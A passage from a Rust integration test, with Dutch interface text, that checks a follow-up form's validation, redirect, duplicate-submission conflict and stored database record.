        assert!(page.text().await.unwrap().contains("name=\"applied\""));
    }
    let blind = app
        .post_form(
            &link,
            &[("changes", "Het exitplan per applicatie is overgenomen.")],
        )
        .await;
    assert_eq!(blind.status(), 400);
    let html = blind.text().await.unwrap();
    assert!(html.contains("Kies ja, gedeeltelijk of nee."));
    assert!(
        html.contains("Het exitplan per applicatie is overgenomen."),
        "kept"
    );
    let sent = app
        .post_form(
            &link,
            &[
                ("applied", "partly"),
                ("changes", "Het exitplan per applicatie is overgenomen."),
            ],
        )
        .await;
    assert_eq!(sent.status(), 303);
    let thanks = app.text(&link).await;
    assert!(thanks.contains("Uw antwoord is opgeslagen"), "{thanks}");
    let again = app.post_form(&link, &[("applied", "yes")]).await;
    assert_eq!(again.status(), 409);
    let stored = meeloop::db::lessons::find_followup(&mut app.db.pool.get().unwrap(), visit.id)
        .unwrap()
        .unwrap();
    assert_eq!(
        (stored.applied.as_str(), stored.changes.as_str()),
        ("partly", "Het exitplan per applicatie is overgenomen.")
    );
}
